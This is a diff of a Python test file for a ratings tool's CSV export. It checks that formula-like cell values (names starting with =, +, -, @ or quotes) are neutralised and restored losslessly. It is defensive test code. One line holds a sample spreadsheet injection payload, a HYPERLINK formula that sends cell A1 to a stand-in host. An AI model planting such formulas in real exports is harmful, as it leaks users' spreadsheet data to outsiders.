@@ -7,14 +7,15 @@ from __future__ import annotations
 import csv
 import io
 import itertools
-import re
 from pathlib import Path
 
 import pytest
 from click.testing import CliRunner
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from ratings.cli import cli
-from ratings.io.csv_out import neutralise, restore, write_csv
+from ratings.io.csv_out import is_formula, neutralise, restore, write_csv
 from tests.conftest import init_database, table_rows
 
 HYPERLINK = '=HYPERLINK("http://x/?d="&A1,"click")'
@@ -145,25 +146,72 @@ def test_sql(club: Path) -> None:
 
 def test_restore_reads_back_what_neutralise_wrote() -> None:
     """Every value up to five characters of these, neutralised and read back, is itself,
-    but one that holds a quote before a formula character (``'=x`` reads as ``=x``: the
-    one ambiguity, documented in restore)."""
+    a quote before a formula character included (seen: ``'=Smith, Jo`` and ``=Smith, Jo``
+    were both written ``'=Smith, Jo``, and the first came back without its quote)."""
     alphabet = ["'", ";", "=", "-", "a", "1", '"', "\t", "\n", "@"]
     checked = 0
     for n in range(1, 6):
         for chars in itertools.product(alphabet, repeat=n):
             value = "".join(chars)
-            if re.search("'[=+\\-@\t\r]", value):
-                continue
             assert restore(neutralise(value)) == value, repr(value)
             checked += 1
-    assert checked > 50_000
+    assert checked == sum(len(alphabet) ** n for n in range(1, 6))
     assert restore("'t Hooft, Gerard") == "'t Hooft, Gerard"
-    assert restore("'-12") == "-12"
+    assert neutralise("'=Smith, Jo") != neutralise("=Smith, Jo")
+
+
+@settings(max_examples=500, deadline=None)
+@given(st.text(alphabet=st.sampled_from(list("'=+-@;\t\r\n\"a1. ,e")), max_size=40))
+def test_restore_undoes_neutralise_over_the_characters_both_look_at(value: str) -> None:
+    """The property over every character the two functions look at (quote, formula
+    characters, separators, line breaks, double quote) and a few that make numbers; and
+    what neutralise writes is never a formula."""
+    assert restore(neutralise(value)) == value
+    assert not is_formula(neutralise(value))
+
+
+@given(st.text(max_size=30))
+def test_restore_undoes_neutralise_for_any_text(value: str) -> None:
+    assert restore(neutralise(value)) == value
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        ("'=Smith, John", "''=Smith, John"),
+        ("''=Double, Q", "'''=Double, Q"),
+        ("Semi;'=x, Z", "Semi;''=x, Z"),
+        ("'-12", "''-12"),
+        ("'t Hooft", "'t Hooft"),
+        ("a;'b", "a;'b"),
+    ],
+)
+def test_a_quote_before_a_formula_character_gets_one_more(cell: str, written: str) -> None:
+    """A value whose quotes come before a formula character gets one more quote, which
+    :func:`restore` takes away again; a spreadsheet shows the cell as text either way."""
+    assert neutralise(cell) == written
+    assert restore(written) == cell
+
+
+NAMES = (
+    "=Jones, John",
+    "+Plus, Ann",
+    "@At, Bo",
+    "-Minus, Cy",
+    "Semi;=colon, Di",
+    "'=Smith, John",
+    "''=Double, Q",
+    "Semi;'=x, Z",
+    "'-Minus, Ed",
+)
 
 
 def test_a_register_with_formula_like_names_goes_back_unchanged(tmp_path: Path) -> None:
     """Seen: ``player list --format csv`` wrote ``'=Smith, John`` (neutralised), and
-    ``import players --update`` of that file renamed the player ``'=Smith, John``."""
+    ``import players --update`` of that file renamed the player ``'=Smith, John``. Then
+    the names that themselves begin with quotes before a formula character: of
+    ``'=Smith, John``, ``''=Double, Q`` and ``Semi;'=x, Z``, 3 were renamed
+    (``'=Smith, John -> =Smith, John``)."""
     db = init_database(tmp_path / "reg.db")
     runner = CliRunner()
 
@@ -172,14 +220,15 @@ def test_a_register_with_formula_like_names_goes_back_unchanged(tmp_path: Path) 
         assert result.exit_code == 0, result.output
         return result.stdout
 
-    for name in ("=Smith, John", "+Plus, Ann", "@At, Bo", "-Minus, Cy", "Semi;=colon, Di"):
+    for name in NAMES:
         ok("player", "add", "--rating", "1800", "--games", "30", "--", name)
     before = ok("player", "list", "--format", "csv")
-    assert "'=Smith, John" in before
+    assert "'=Jones, John" in before
+    assert "''=Smith, John" in before
     sheet = tmp_path / "register.csv"
     sheet.write_text(before, encoding="utf-8")
     assert ok("import", "players", "--update", str(sheet)).splitlines()[-1] == (
-        f"Imported 0 new players, updated 0 (5 unchanged) from {sheet}"
+        f"Imported 0 new players, updated 0 ({len(NAMES)} unchanged) from {sheet}"
     )
     assert ok("player", "list", "--format", "csv") == before
     # into another database (the ids dropped): the names as registered, not with the quote
@@ -191,4 +240,4 @@ def test_a_register_with_formula_like_names_goes_back_unchanged(tmp_path: Path) 
     result = runner.invoke(cli, ["--db", other, "import", "players", str(moved)])
     assert result.exit_code == 0, result.output
     names = {n for (n,) in table_rows(other, "SELECT name FROM players")}
-    assert names == {"=Smith, John", "+Plus, Ann", "@At, Bo", "-Minus, Cy", "Semi;=colon, Di"}
+    assert names == set(NAMES)
